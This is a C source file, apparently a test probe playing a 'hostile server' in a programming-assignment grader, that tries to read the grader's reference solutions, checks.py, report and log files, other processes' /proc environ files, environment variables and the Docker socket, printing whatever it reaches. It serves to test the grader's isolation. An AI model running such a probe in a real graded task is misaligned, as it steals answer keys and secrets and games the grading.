/* Hostile server: prints on stdout whatever it can read of the grader (on stderr, why it
 * could not), then "found nothing to read" if that is nothing, and exits 1. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

extern char **environ;
static int found, refused;
static char own[PATH_MAX] = "/nonexistent"; /* its own build folder: its own files */

static void denied(const char *what, int error)
{
    refused++;
    fprintf(stderr, "%s: %s\n", what, strerror(error));
}

static void show_file(const char *path)
{
    int fd = open(path, O_RDONLY);
    if (fd == -1) {
        denied(path, errno);
        return;
    }
    char bytes[300];
    ssize_t n = read(fd, bytes, sizeof bytes);
    close(fd);
    if (n < 0) {
        denied(path, errno);
        return;
    }
    found++;
    printf("== %s:\n", path);
    fwrite(bytes, 1, (size_t)n, stdout);
    printf("\n");
}

static void show_dir(const char *path)
{
    DIR *dir = opendir(path);
    if (dir == NULL) {
        denied(path, errno);
        return;
    }
    struct dirent *entry;
    int shown = 0;
    while ((entry = readdir(dir)))
        if (entry->d_name[0] != '.') {
            if (!shown++)
                printf("== ls %s:", path);
            printf(" %s", entry->d_name);
        }
    closedir(dir);
    if (shown) {
        found++;
        printf("\n");
    }
}

static void docker_socket(const char *path)
{
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un where = {.sun_family = AF_UNIX};
    strncpy(where.sun_path, path, sizeof where.sun_path - 1);
    if (connect(fd, (struct sockaddr *)&where, sizeof where) == -1) {
        denied(path, errno);
        close(fd);
        return;
    }
    const char *request = "GET /containers/json HTTP/1.0\r\n\r\n";
    char reply[300];
    ssize_t n = write(fd, request, strlen(request)) > 0 ? read(fd, reply, sizeof reply) : -1;
    close(fd);
    found++;
    printf("== %s answered: %.*s\n", path, n > 0 ? (int)n : 0, n > 0 ? reply : "");
}

/* Every file on the machine that looks like the grader's: shown unless it is its own. */
static void search(void)
{
    FILE *names = popen("find / \\( -path /proc -o -path /sys -o -path /usr \\) -prune -o \\( -name '*.c' "
                        "-o -name '*.inc' -o -name checks.py -o -name assignment.yaml "
                        "-o -name 'report.json' -o -name 'lane-*' -o -name grading.log \\) "
                        "-print 2>/dev/null", "r");
    char path[PATH_MAX];
    while (names && fgets(path, sizeof path, names)) {
        path[strcspn(path, "\n")] = '\0';
        if (strncmp(path, own, strlen(own)) != 0)
            show_file(path);
    }
    if (names)
        pclose(names);
}

int main(void)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    ssize_t n = readlink("/proc/self/exe", own, sizeof own - 1);
    if (n > 0) {
        own[n] = '\0';
        dirname(own);
    }
    const char *files[] = {
        "../../build/reference/server.c", "../../build/reference/client.c",
        "../../build/reference/Makefile", "../../reference-bin/server",
        "../../reference-bin/client", "../../report.json", "../../grading.log",
        "/opt/ipc-grader/assignments/assignment1/checks.py",
        "/opt/ipc-grader/reference/assignment1/server.c",
        "/work/grader-root/assignments/assignment1/checks.py",
        "/work/grader-root/reference/assignment1/server.c",
        "/proc/1/environ", NULL,
    };
    const char *dirs[] = {
        "..", "../..", "../../build", "../../build/reference", "../../reference-bin",
        "../../private", "../../jail", "../../submission", "/work", "/opt/ipc-grader",
        "/var/lib/ipc-grader/runs", "/root", NULL,
    };
    for (int i = 0; files[i]; i++)
        show_file(files[i]);
    for (int i = 0; dirs[i]; i++)
        show_dir(dirs[i]);
    docker_socket("/var/run/docker.sock");
    docker_socket("/run/docker.sock");
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc && (entry = readdir(proc))) {
        char path[64];
        int pid = atoi(entry->d_name);
        if (pid > 0 && pid != getpid()) {
            snprintf(path, sizeof path, "/proc/%d/environ", pid);
            if (access(path, R_OK) == 0)
                show_file(path);
        }
    }
    if (proc)
        closedir(proc);
    for (char **variable = environ; *variable; variable++)
        if (strncmp(*variable, "PATH=", 5) && strncmp(*variable, "LANG=", 5)
            && strncmp(*variable, "LC_ALL=", 7) && strncmp(*variable, "TERM=", 5)
            && strncmp(*variable, "HOME=", 5) && strncmp(*variable, "PWD=", 4)) {
            found++;
            printf("== environment: %s\n", *variable);
        }
    search();
    if (!found)
        printf("found nothing to read (%d attempts refused)\n", refused);
    return 1;
}
